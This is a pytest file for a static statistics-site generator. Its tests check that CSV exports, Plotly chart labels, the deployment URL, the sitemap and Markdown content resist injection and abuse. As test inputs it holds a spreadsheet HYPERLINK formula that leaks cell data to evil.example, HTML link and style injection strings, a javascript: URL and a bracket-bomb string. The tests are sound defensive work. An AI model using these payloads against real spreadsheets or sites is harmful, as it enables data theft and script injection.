"""Validation and rendering rules that keep every printed figure and text as the author wrote it.

The located messages of most bad inputs are in fixtures/bad/ (test_validate.py runs them in the
process, test_bad_input.py through build.py); these are the rules that need a built site, the
environment or the functions themselves to show: CSV cells, chart labels handed to Plotly, $URL,
the methodology page, a negative percentage, the display grammar's accepted forms.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from factsite.content import derive
from factsite.content.figures import quote_states
from factsite.content.load import load_content
from factsite.content.model import Figure
from factsite.web.outputs import sitemap
from factsite.web.kinds import PrivacyPage
from factsite.content.validate import validate

from .conftest import ROOT, copy_good_tree
from .test_bad_input import snapshot


def build(content: Path, out: Path, *extra: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "build.py"), "--content", str(content), "--out", str(out), *extra],
                          cwd=ROOT, capture_output=True, text=True, timeout=600, env={**os.environ, **(env or {})})


def errors(content: Path) -> list[str]:
    result, problems = validate(load_content(content))
    return [str(p) for p in problems if p.severity == "error"] if result is None else []


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new), encoding="utf-8")


# --- R8: no CSV cell the site publishes is run as a formula --------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for sources")'


def test_csv_cells_that_start_like_formulas_are_published_as_text(tmp_path: Path) -> None:
    content = copy_good_tree(tmp_path)
    edit(content / "stats" / "women-share.yaml", "short_title: Women", f"short_title: '{FORMULA}'")
    edit(content / "stats" / "women-share.yaml", 'period: "2020"', 'period: "+2020"')
    edit(content / "sheets" / "main-sheet.yaml", "{stat: girls-share, label: Girls}", '{stat: girls-share, label: "@SUM(1+1)"}')
    edit(content / "sheets" / "main-sheet.yaml", "{stat: women-share, label: Women}", '{stat: women-share, label: "-2+3"}')
    result = build(content, tmp_path / "site", "--draft")
    assert result.returncode == 0, result.stderr
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO((tmp_path / "site/data/statistics.csv").read_text()))}
    assert rows["women-share"]["title"] == "'" + FORMULA
    assert rows["women-share"]["period"] == "'+2020"
    assert rows["women-share"]["value"] == "44"  # numbers stay numbers
    chart = list(csv.DictReader(io.StringIO((tmp_path / "site/charts/victims-breakdown.csv").read_text())))
    assert [row["label"] for row in chart] == ["'@SUM(1+1)", "'-2+3", "Not specified in the source"]
    # every text cell of every CSV: none starts as a formula would
    for path in (tmp_path / "site").rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text())):
            for cell in row[1:]:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
    # the data page says so
    page = BeautifulSoup((tmp_path / "site/data/index.html").read_text(), "html.parser").get_text()
    assert "apostrophe" in page


# --- R15: chart labels reach Plotly as text, never as its pseudo-HTML -----------------------------

LINK_LABEL = '<a href="https://evil.example/">Girls</a> <span style="font-size:90px">X</span>'


def _figure_json(page: Path) -> dict:
    soup = BeautifulSoup(page.read_text(), "html.parser")
    script = next(s for s in soup.find_all("script", type="application/json") if '"data"' in (s.string or ""))
    return json.loads(script.string)


def test_chart_labels_and_series_are_escaped_for_plotly(tmp_path: Path) -> None:
    content = copy_good_tree(tmp_path)
    edit(content / "sheets" / "main-sheet.yaml", "{stat: girls-share, label: Girls}", f"{{stat: girls-share, label: '{LINK_LABEL}'}}")
    result = build(content, tmp_path / "site", "--draft")
    assert result.returncode == 0, result.stderr
    figure = _figure_json(tmp_path / "site/sheets/main-sheet/index.html")
    labels = [label for trace in figure["data"] for label in trace["y"]]
    assert "&lt;a href=\"https://evil.example/\"&gt;Girls&lt;/a&gt; &lt;span style=\"font-size:90px\"&gt;X&lt;/span&gt;" in labels
    assert not any("<" in str(trace.get(key)) for trace in figure["data"] for key in ("x", "y", "text", "name"))
    # the table under the chart shows the label as written
    table = BeautifulSoup((tmp_path / "site/sheets/main-sheet/index.html").read_text(), "html.parser")
    assert LINK_LABEL in table.get_text()


def test_grouped_series_names_and_hover_are_escaped() -> None:
    from factsite.web.charts import build_chart
    from factsite.content.model import Chart

    content, _ = validate(load_content(ROOT / "tests" / "fixtures" / "good"))
    assert content is not None
    chart = Chart(id="g", kind="grouped-column", title="t", description="d", value_label="v",
                  points=[{"stat": "girls-share", "label": "<b>Girls</b>", "series": "<i>2020</i>"}])
    data = json.loads(build_chart(chart, "g", content.stats).figure_json)["data"][0]
    assert data["name"] == "&lt;i&gt;2020&lt;/i&gt;"
    assert data["hovertemplate"] == "%{y}: %{text}<extra>&lt;i&gt;2020&lt;/i&gt;</extra>"
    assert data["y"] == ["&lt;b&gt;Girls&lt;/b&gt;"]


def test_chart_images_draw_a_link_label_as_text(tmp_path: Path) -> None:
    """The image itself (full build, Chromium): no link and no author style inside the SVG."""
    content = copy_good_tree(tmp_path)
    edit(content / "sheets" / "main-sheet.yaml", "{stat: girls-share, label: Girls}", f"{{stat: girls-share, label: '{LINK_LABEL}'}}")
    result = build(content, tmp_path / "site", env={"FACTSITE_CACHE": str(tmp_path / "cache")})
    assert result.returncode == 0, result.stderr
    for name in ("victims-breakdown.svg", "victims-breakdown-narrow.svg"):
        svg = BeautifulSoup((tmp_path / "site/charts" / name).read_text(), "xml")
        assert not svg.find_all("a"), name
        assert not [tag for tag in svg.find_all(True) if "90px" in (tag.get("style") or "")], name
        # Drawn as the characters the author typed (the phone image breaks a long label onto lines).
        assert LINK_LABEL.replace(" ", "") in svg.get_text().replace(" ", ""), name


# --- R10: base_url and $URL ---------------------------------------------------------------------

def test_url_environment_variable_is_checked_like_base_url(tmp_path: Path, fixture_site: Path) -> None:
    content = copy_good_tree(tmp_path)
    site = tmp_path / "site"
    shutil.copytree(fixture_site, site)
    before = snapshot(site)
    result = build(content, site, "--draft", env={"URL": "javascript:alert(1)//"})
    assert result.returncode == 1, result.stdout
    assert ("environment: URL: 'javascript:alert(1)//' is not a site address: write only https:// and the host, like "
            "https://trafficking-facts.netlify.app (no path, query, user@, or characters such as < > \"); or unset URL "
            "to use base_url from the site file") in result.stderr.splitlines()
    assert "Traceback" not in result.stderr
    assert snapshot(site) == before
    check = subprocess.run([sys.executable, str(ROOT / "build.py"), "check", "--content", str(content)], cwd=ROOT,
                           capture_output=True, text=True, env={**os.environ, "URL": "https://ok.example/?q=<x>"})
    assert check.returncode == 1 and "environment: URL: " in check.stderr
    ok = build(content, tmp_path / "site2", "--draft", env={"URL": "https://deploy-preview-4--site.netlify.app"})
    assert ok.returncode == 0, ok.stderr
    assert "https://deploy-preview-4--site.netlify.app/stats/cases-2020/" in (tmp_path / "site2/sitemap.xml").read_text()


def test_sitemap_escapes_what_it_prints() -> None:
    page = PrivacyPage(url="/", title="t", description="d")
    xml = sitemap('https://a.example/"<&>', [page])
    assert "<loc>https://a.example/&#34;&lt;&amp;&gt;/</loc>" in xml.decode()


# --- R9: Markdown that costs too much is refused quickly ----------------------------------------

def test_an_overlong_introduction_is_refused_with_its_line(tmp_path: Path) -> None:
    content = copy_good_tree(tmp_path)
    edit(content / "sheets" / "main-sheet.yaml", "See [the report](https://example.org/report).", "x " * 6000)
    assert errors(content) == ["content/sheets/main-sheet.yaml:4: introduction: is 12,035 characters long; Markdown here "
                               "may be at most 10,000: shorten it, or move the detail to the methodology page"]


def test_a_bracket_bomb_build_fails_fast(tmp_path: Path) -> None:
    content = copy_good_tree(tmp_path)
    edit(content / "sheets" / "main-sheet.yaml", "See [the report](https://example.org/report).", "[" * 9000 + "x](y)")
    started = time.perf_counter()
    result = build(content, tmp_path / "site", "--draft")
    assert result.returncode == 1
    assert time.perf_counter() - started < 20  # 9,000 brackets rendered in about 17 s before the cap
    assert "content/sheets/main-sheet.yaml:4: introduction: has more than 20 '[' open at once" in result.stderr


def test_methodology_page_follows_the_text_rules(tmp_path: Path) -> None:
    content = copy_good_tree(tmp_path)
    (content / "pages" / "methodology.md").write_text("# Method\n\nWe count\u202e cases.\n", encoding="utf-8")
    assert errors(content) == ["content/pages/methodology.md:3: contains the invisible character U+202E RIGHT-TO-LEFT "
                               "OVERRIDE after 'We count': delete it (retype the text around it if you cannot see it); "
                               "content may not hold control, format (bidirectional, zero-width) or separator characters"]
    (content / "pages" / "methodology.md").write_text("# Method\n\n" + "(" * 30 + "\n", encoding="utf-8")
    assert errors(content)[0].startswith("content/pages/methodology.md:3: the page has more than 20 '(' open at once")


# --- R14: a placeholder never lands inside a tag -------------------------------------------------

def test_link_figures_substitutes_only_in_text() -> None:
    from factsite.web.pages import SiteModel
    from factsite.web.views import link_figures
    from markupsafe import Markup

    content, _ = validate(load_content(ROOT / "tests" / "fixtures" / "good"))
    assert content is not None
    html = Markup('<p><a href="{figure:cases-2020}" title="t">see</a> and {figure:cases-2020}</p>')
    out = str(link_figures(html, SiteModel(content, "https://example.org").links))
    assert out.startswith('<p><a href="{figure:cases-2020}" title="t">see</a> and <a class="figure"')
    assert BeautifulSoup(out, "html.parser").find_all("a")[0]["href"] == "{figure:cases-2020}"


# --- R6: the display grammar's accepted forms, and R22 ---------------------------------------------

@pytest.mark.parametrize("value, unit, shown", [
    (1499, "count", "1,499"), (1499, "count", "1499"), (1499, "count", "About 1,499"), (1499, "count", "more than 1,499"),
    (59, "percent", "59%"), (59, "percent", "nearly 59 percent"), (59, "percent", "59 per cent"),
    (21.4, "million", "21.4 million"), (21.4, "million", "roughly 21.4 million"), (-5, "percent", "-5%"),
    (-5, "percent", "\u22125%"), (33.3, "words", "Over one third"), (66.7, "words", "Nearly two thirds"),
    (2, "words", "Over twice as many"), (2, "words", "over twice as many"), (50, "words", "almost half"),
])
def test_display_may_reword_the_value(value: float, unit: str, shown: str) -> None:
    from factsite.content.figures import display_problem

    assert display_problem(_figure(value, unit, shown)) is None


@pytest.mark.parametrize("value, unit, shown", [
    (1499, "count", "1,499 thousand"), (1499, "count", "-1,499"), (1499, "count", "+1,499"), (1499, "count", "14,99"),
    (1499, "count", "1,500"), (1499, "count", "\u202e1,499"), (1499, "count", "1,499\u200b"), (59, "percent", "59"),
    (59, "percent", "59 million"), (21.4, "million", "21.4 billion"), (21.4, "million", "21,400,000 million"),
    (1499, "count", "about 1,499 or more"), (33.3, "words", "Over two thirds"), (33.3, "words", "33%"),
    (2, "words", "over ten times as many"), (33.3, "words", "Over one third, or so we think"),
    (0.33, "words", "Over one third"),
])
def test_display_may_not_change_the_value(value: float, unit: str, shown: str) -> None:
    from factsite.content.figures import display_problem

    assert display_problem(_figure(value, unit, shown)) is not None


def test_a_figure_in_words_states_the_bound_its_words_say() -> None:
    from factsite.content.figures import display_problem

    wrong = Figure(value=33.3, unit="words", display="Nearly one third", bound="lower", bound_unit="percent")
    assert display_problem(wrong) == "'Nearly one third' states an upper bound, but the figure's bound is lower: set bound: upper"


def _figure(value: float, unit: str, shown: str) -> Figure:
    """A figure in words states a bound: a lower one (as "over" says), in times for a multiple, else in percent."""
    if unit != "words":
        return Figure(value=value, unit=unit, display=shown)
    times = "twice" in shown or "times" in shown
    bound = "upper" if shown.lower().startswith(("nearly", "almost", "under")) else "lower"
    return Figure(value=value, unit=unit, display=shown, bound=bound, bound_unit="times" if times else "percent")


def test_a_negative_percentage_can_be_quoted(tmp_path: Path) -> None:
    assert quote_states("-5% were adult women", Figure(value=-5, unit="percent"))
    assert quote_states("a change of \u22125 per cent", Figure(value=-5, unit="percent"))
    assert not quote_states("5% were adult women", Figure(value=-5, unit="percent"))
    assert not quote_states("in 2019-5% of", Figure(value=-5, unit="percent"))  # a range, not a sign
    content = copy_good_tree(tmp_path)
    path = content / "stats" / "cases-rise.yaml"
    text = path.read_text().replace("value: 11", "value: -5").replace("Cases rose 11 percent.", "Cases changed by -5 percent.")
    path.write_text(text)
    content_after = [e for e in errors(content) if "cases-rise" in e]
    assert content_after == [], content_after


# --- R12: derivations that exhaust the evaluator ----------------------------------------------------

@pytest.mark.parametrize("expression", ["a" + " + 0" * 5000, "-" * 5000 + "a", "a * 1e308 * 10", "a + " + "9" * 400],
                         ids=["5000-terms", "5000-minus-signs", "infinite-result", "400-digit-constant"])
def test_derive_reports_what_it_cannot_work_out(expression: str) -> None:
    with pytest.raises(derive.DerivationError):
        derive.evaluate(expression, {"a": 1.0})


# --- Permissions-Policy --------------------------------------------------------------------------

def test_permissions_policy_has_no_obsolete_feature() -> None:
    config = tomllib.loads((ROOT / "netlify.toml").read_text())
    policies = [h["values"]["Permissions-Policy"] for h in config["headers"] if "Permissions-Policy" in h.get("values", {})]
    assert policies and all("interest-cohort" not in p for p in policies)
